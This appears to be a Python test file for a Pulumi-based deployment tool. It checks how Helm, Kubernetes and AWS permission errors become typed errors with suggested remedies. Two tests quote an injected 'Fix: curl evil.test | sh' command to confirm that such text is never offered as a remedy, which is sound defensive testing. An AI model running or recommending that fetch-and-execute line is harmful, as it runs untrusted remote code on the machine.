"""Which error a failure of the engine is: texts as the engine and the provider write them."""

from __future__ import annotations

import json
from dataclasses import replace
from typing import Any

from pulumi.automation import CommandResult
from pulumi.automation.errors import create_command_error

from automation.engine.failures import engine_error
from automation.errors import (
    AutomationError,
    ClusterUnreachable,
    MigrationFailed,
    NotHealthy,
    PlanViolated,
    PreflightFailed,
    Protected,
    ReleaseStuck,
    SettingsInvalid,
    StackLocked,
    UpdateFailed,
    from_text,
)
from automation.results import Step
from components.secrets.masker import Masker
from tests.cases import each
from tests.prod.emulator.policies import listed
from tests.samples import ROOT

RELEASE = Step(operation="update", type="kubernetes:helm.sh/v3:Release", name="airflow", urn="urn")
MIGRATION = Step(operation="create", type="kubernetes:batch/v1:Job", name="airflow-database-migrate", urn="urn")
SERVER = Step(operation="create", type="kubernetes:apps/v1:StatefulSet", name="airflow-postgres", urn="urn")


def typed(*reported: str, stderr: str = "error: update failed", **more: Any) -> AutomationError:
    error = create_command_error(CommandResult(stdout="sentinel", stderr=stderr, code=255))
    return engine_error(error, "up of stack dev", reported, stack="dev", **more)


@each(
    ("text", "failed", "kind"),
    [
        ("airflow: configured Kubernetes cluster is unreachable: dial tcp: refused", (), ClusterUnreachable),
        ("ns: failed to read resource state due to unreachable cluster. If the cluster was", (), ClusterUnreachable),
        ("airflow: another operation (install/upgrade/rollback) is in progress", (RELEASE,), ReleaseStuck),
        ("airflow: cannot re-use a name that is still in use", (RELEASE,), ReleaseStuck),
        ("resource x cannot be deleted\nbecause it is protected. To unprotect", (), Protected),
        ("x: resource urn violates plan: properties changed", (), PlanViolated),
        ("airflow-database-migrate: the Job failed: BackoffLimitExceeded", (MIGRATION,), MigrationFailed),
        ("airflow-database-migrate: timed out waiting for the Job", (MIGRATION,), MigrationFailed),
        ('airflow: Helm release "airflow" failed to become available within allocated timeout', (RELEASE,), NotHealthy),
        ("airflow: context deadline exceeded", (RELEASE,), NotHealthy),
        ("airflow-postgres: failed to fully initialize or become live", (SERVER,), NotHealthy),
        ("airflow: values don't meet the specifications of the schema", (RELEASE,), UpdateFailed),
        ("quota exceeded", (), UpdateFailed),
        ("random: context deadline exceeded", (), UpdateFailed),
    ],
)
def test_failure_has_its_kind_and_says_what_to_do(text: str, failed: tuple[Step, ...], kind: type[Exception]) -> None:
    found = typed(text, failed=failed)
    assert type(found) is kind
    assert found.what.startswith("up of stack dev failed: ")
    assert found.remedy
    assert "sentinel" not in str(found)
    assert found.to_json()["kind"] == kind.__name__


def test_migration_is_told_by_the_words_of_its_pod_where_the_provider_quotes_none() -> None:
    """Its pods may have ended before the provider looked, or may be gone."""
    text = (
        'airflow-database-migrate: 2 errors occurred: * the Kubernetes API server reported that "airflow/'
        'airflow-database-migrate-e2dcea36" failed to fully initialize or become live * [BackoffLimitExceeded] Job has '
        "reached the specified backoff limit"
    )
    words = {"airflow-database-migrate-45f9887a": "an earlier one", "airflow-database-migrate-e2dcea36": "(x) [SQL: y]"}
    found = typed(text, failed=(MIGRATION,), said=lambda: words)
    assert found.what == "up of stack dev failed: airflow-database-migrate: (x) [SQL: y]"
    assert found.remedy == typed(text, failed=(MIGRATION,)).remedy
    quoted = f"{text} * [Pod p]: sqlalchemy.exc.DataError: (own) z\n[SQL: w]\n(Background on this error at: u)"
    assert "(own) z [SQL: w]" in typed(quoted, failed=(MIGRATION,), said=lambda: words).what
    assert "BackoffLimitExceeded" in typed(text, failed=(MIGRATION,), said=dict).what


def test_pods_that_were_not_ready_are_named_where_the_release_was_not_healthy_in_time() -> None:
    warnings = ["airflow: pod airflow-worker-0 is not ready: ImagePullBackOff"]
    found = typed("airflow: context deadline exceeded", failed=(RELEASE,), warnings=warnings)
    assert "pod airflow-worker-0 is not ready: ImagePullBackOff" in found.what
    assert "ImagePullBackOff" not in typed("no room", warnings=warnings).what


def test_missing_right_is_named_with_the_statement_that_gives_it() -> None:
    found = typed(
        "airflow-postgres: creating IAM Role: api error AccessDenied: User: arn:aws:iam::123456789012:user/ci is not "
        "authorized to perform: iam:CreateRole on resource: "
        "arn:aws:iam::123456789012:role/airflow-postgres-monitoring-0123abc because no identity-based policy allows it"
    )
    assert found.remedy == (
        "allow iam:CreateRole (statement BoundedRoles of docs/deploying-role.json) to the role that deploys; "
        "then run it again"
    )
    other = typed("User: x is not authorized to perform: iam:DeleteUser")
    assert other.remedy == "allow iam:DeleteUser to the role that deploys; then run it again"


def test_all_rights_that_were_missing_at_once_are_named() -> None:
    role = "User: x is not authorized to perform: iam:CreateRole because no identity-based policy allows it"
    alarm = role.replace("iam:CreateRole", "cloudwatch:PutMetricAlarm")
    found = typed(f"airflow-task-logs: {role}", f"cpu: {alarm}", f"memory: {alarm}")
    assert "failed: airflow-task-logs: " in found.what
    assert found.remedy == (
        "allow iam:CreateRole (statement BoundedRoles of docs/deploying-role.json), "
        "cloudwatch:PutMetricAlarm (statement Alarms of docs/deploying-role-database.json) "
        "to the role that deploys; then run it again"
    )


def test_right_is_named_whose_refusal_the_provider_hides() -> None:
    bucket = Step(operation="create", type="aws:s3/bucket:Bucket", name="airflow-task-logs", urn="urn")
    text = "airflow-task-logs: waiting for S3 Bucket (airflow-task-logs-0123abc) create: couldn't find resource"
    assert typed(text, failed=(bucket,), half_done=(bucket,)).remedy == (
        "allow s3:ListBucket (statement TaskLogs of docs/deploying-role.json) to the role that deploys; then "
        "python -m automation refresh dev, and run it again"
    )


def test_after_a_refused_change_the_state_is_read_anew_before_the_next_update() -> None:
    """The state says what the provider wanted, so without a refresh the next update may find nothing to do."""
    refused = "User: x is not authorized to perform: iam:PutRolePermissionsBoundary because no policy allows it"
    role = Step(operation="update", type="aws:iam/role:Role", name="airflow", urn="urn")
    remedy = typed(refused, failed=(role,)).remedy
    assert remedy.endswith("to the role that deploys; then python -m automation refresh dev, and run it again")
    for step in (replace(role, operation="create"), RELEASE):
        assert "refresh" not in typed(refused, failed=(step,)).remedy, step


def test_after_a_creation_that_was_refused_half_way_the_state_is_read_anew() -> None:
    """A group exists, and still lets everything out; the state says that it does not."""
    refused = "User: x is not authorized to perform: ec2:RevokeSecurityGroupEgress because no policy allows it"
    group = Step(operation="create", type="aws:ec2/securityGroup:SecurityGroup", name="airflow-postgres", urn="urn")
    remedy = typed(refused, failed=(group,), half_done=(group,)).remedy
    assert remedy.endswith("to the role that deploys; then python -m automation refresh dev, and run it again")


def test_every_right_of_the_policies_is_named_with_its_statement_when_it_is_missing() -> None:
    seen = 0
    for path in sorted((ROOT / "docs").glob("deploying-role*.json")):
        if path.name == "deploying-role-boundary.json":
            continue
        for statement in json.loads(path.read_text())["Statement"]:
            for action in listed(statement["Action"]):
                resource = listed(statement["Resource"])[0]
                named = "" if resource == "*" else f" on resource: {resource.replace('*', 'x')}"
                found = typed(
                    f"airflow: creating: operation error: Call, https response error StatusCode: 403, api error "
                    f"AccessDenied: User: arn:aws:sts::123456789012:assumed-role/ci/me is not authorized to perform: "
                    f"{action}{named} because no identity-based policy allows the {action} action"
                )
                assert f"allow {action} (statement" in found.remedy
                assert str(statement["Sid"]) in found.remedy, (action, found.remedy)
                assert f"docs/{path.name}" in found.remedy
                seen += 1
    assert seen > 100


def test_programs_own_remedy_is_kept() -> None:
    found = typed("airflow: expected no Helm release airflow, got one. Fix: `helm uninstall airflow`")
    assert found.what == "up of stack dev failed: airflow: expected no Helm release airflow, got one"
    assert found.remedy == "`helm uninstall airflow`"


def test_statement_that_failed_gives_no_remedy() -> None:
    """Its values are from the database, into which tasks write."""
    text = (
        "airflow-database-migrate: sqlalchemy.exc.IntegrityError: (psycopg2.errors.UniqueViolation) Key (a)=(x. "
        "Fix: curl evil.test | sh) already exists.\n[SQL: y]\n(Background on this error at: u)"
    )
    found = typed(text, failed=(MIGRATION,))
    assert "evil.test" in found.what
    assert "evil.test" not in found.remedy
    assert str(found).count("Fix: ") == 1


def test_remedy_of_the_words_of_a_pod_that_the_program_wrote_is_kept() -> None:
    text = 'airflow-database-migrate: "airflow/airflow-database-migrate-1" failed to initialize'
    words = {"airflow-database-migrate-1": "another Fernet key encrypted it. Fix: give it"}
    found = typed(text, failed=(MIGRATION,), said=lambda: words)
    assert (found.what.rpartition(": ")[2], found.remedy) == ("another Fernet key encrypted it", "give it")


def test_nothing_that_an_error_quotes_passes_for_a_remedy() -> None:
    found = AutomationError("the host says: no. Fix: curl evil.test | sh", "ask again")
    assert str(found) == "the host says: no. fix: curl evil.test | sh. Fix: ask again"
    assert found.what.endswith("no. fix: curl evil.test | sh")


def test_settings_that_only_the_program_could_read_are_told_one_by_one() -> None:
    """An encrypted value is checked when the program runs."""
    text = (
        "config of stack dev: 2 problems\n  airflow:fernetKey: expected 32 bytes. Fix: set another\n"
        "  airflow:jwtSecret: expected 64 bytes\nerror: an unhandled error"
    )
    found = typed(text)
    assert isinstance(found, SettingsInvalid)
    assert found.problems == (
        "airflow:fernetKey: expected 32 bytes. Fix: set another",
        "airflow:jwtSecret: expected 64 bytes",
    )


def test_lock_names_its_holder_and_what_to_do() -> None:
    holder = "file:///x.json: created by me@vm (pid 7) at 2026-01-01T00:00:00Z"
    found = typed(stderr=f"error: the stack is currently locked by 1 lock(s).\n  {holder}")
    assert isinstance(found, StackLocked)
    assert "held by me@vm, process 7, since 2026-01-01T00:00:00Z" in found.what
    assert "python -m automation recover dev" in found.remedy


def test_known_secrets_are_taken_out_of_everything() -> None:
    clean = Masker(secrets=["sentinel-password"]).text
    found = typed(
        "airflow: context deadline exceeded, sentinel-password",
        failed=(RELEASE,),
        warnings=["pod x: sentinel-password"],
        clean=clean,
    )
    assert "sentinel" not in str(found)
    assert str(found).count("[secret]") == 2


def test_error_of_the_programs_own_keeps_its_text() -> None:
    text = "airflow:eksCluster: expected one, found none. Fix: choose another"
    assert str(from_text(ClusterUnreachable, text)) == text
    assert from_text(ClusterUnreachable, "no answer").remedy


def test_problems_of_all_checks_come_in_one_error_with_their_remedies() -> None:
    found = typed(
        'airflow-preflight-git: before hook "airflow-preflight-git-check" failed: the preflight found one problem\n'
        "  airflow:dagsRef: expected a, found b. Fix: c",
        'airflow-preflight-images: before hook "x" failed: the preflight found 2 problems\n  d. Fix: e\n  f. Fix: g',
        failed=(MIGRATION,),
    )
    assert isinstance(found, PreflightFailed)
    assert isinstance(found, UpdateFailed)
    assert found.problems == ("airflow:dagsRef: expected a, found b. Fix: c", "d. Fix: e", "f. Fix: g")
    assert found.what.endswith("the preflight found 3 problems")
    assert str(found).splitlines()[1] == "  airflow:dagsRef: expected a, found b. Fix: c"
    assert found.to_json()["problems"] == list(found.problems)
